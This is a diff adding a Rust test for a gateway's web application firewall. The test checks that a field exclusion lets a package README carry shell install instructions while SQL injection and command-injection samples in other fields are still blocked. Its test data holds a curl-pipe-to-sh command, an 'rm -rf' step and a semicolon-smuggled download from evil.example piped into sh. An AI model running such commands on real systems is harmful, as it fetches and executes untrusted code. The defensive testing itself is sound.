@@ -148,3 +148,66 @@ fn each_inspection_cap_refuses_what_it_cannot_inspect() {
     let refused = "cartorio_gateway_requests_total{stream=\"capped\",outcome=\"uninspectable\"}";
     assert_eq!(count(&metrics, refused), 3, "{metrics}");
 }
+
+#[test]
+fn exclusions_let_a_field_carry_what_its_operator_says_and_nothing_else() {
+    let tmp = tempfile::tempdir().expect("tempdir");
+    let d = tmp.path();
+    let port = free_port();
+    let key_hash = hex::encode(openssl_sha256(b"k-docs"));
+    let stream = |exclusion: &str| {
+        format!(
+            "listen = \"127.0.0.1:{port}\"\n[store]\nkind = \"local\"\npath = \"{}\"\n\
+             [[api_keys]]\nid = \"docs\"\nsha256 = \"{key_hash}\"\nstreams = [\"packages\"]\n\
+             [[streams]]\nname = \"packages\"\nrate_per_sec = 1000.0\nburst = 1000\n\
+             content_types = [\"application/json\"]\nexpose_rules = true\n\
+             [[streams.waf.exclusions]]\n{exclusion}\n",
+            d.join("store").display()
+        )
+    };
+    // A package registry's README field carries install instructions.
+    let readme =
+        "Install:\n\n    curl -sSL https://example.com/install.sh | sh\n\nthen `rm -rf ~/.cache/tool`.";
+    let package = serde_json::json!({"name": "tool", "version": "1.0.0", "readme": readme}).to_string();
+    let addr = format!("127.0.0.1:{port}");
+    {
+        let _gateway = start_alone("gateway", d, &stream("fields = [\"other\"]\nclasses = [\"rce\"]"), port);
+        let (status, _, reply) =
+            ingest(&addr, "packages", Some("k-docs"), "application/json", package.as_bytes(), &[]);
+        assert_eq!(status, 403, "an exclusion of another field changes nothing: {reply}");
+    }
+    let _gateway = start_alone("gateway", d, &stream("fields = [\"readme\"]\nclasses = [\"rce\"]"), port);
+    let (status, _, reply) =
+        ingest(&addr, "packages", Some("k-docs"), "application/json", package.as_bytes(), &[]);
+    assert_eq!(status, 202, "{reply}");
+    // Every other field, and every other class in the README, still blocks.
+    let attacks = [
+        serde_json::json!({"name": SQLI, "readme": readme}),
+        serde_json::json!({"name": "tool", "readme": format!("{readme}\n{SQLI}")}),
+        serde_json::json!({"name": "tool", "notes": "; curl -sSL https://evil.example/x | sh"}),
+    ];
+    for attack in attacks {
+        let (status, _, reply) =
+            ingest(&addr, "packages", Some("k-docs"), "application/json", attack.to_string().as_bytes(), &[]);
+        assert_eq!(status, 403, "{attack}: {reply}");
+    }
+    drop(_gateway);
+
+    // What the gateway cannot check it refuses to start with.
+    for (exclusion, said) in [
+        ("fields = [\"readme\"]\nrules = [99999]", "no rule 99999"),
+        ("fields = [\"readme\"]\nclasses = [\"shell\"]", "no class"),
+        ("locations = [\"cookie\"]", "no location"),
+        ("rules = []", "would turn the WAF off"),
+    ] {
+        let file = d.join("bad.toml");
+        std::fs::write(&file, stream(exclusion)).expect("config");
+        let out = std::process::Command::new(BIN)
+            .args(["gateway", "--config"])
+            .arg(&file)
+            .output()
+            .expect("run the gateway");
+        let stderr = String::from_utf8_lossy(&out.stderr);
+        assert!(!out.status.success() && stderr.contains(said), "{exclusion}: {stderr}");
+    }
+}
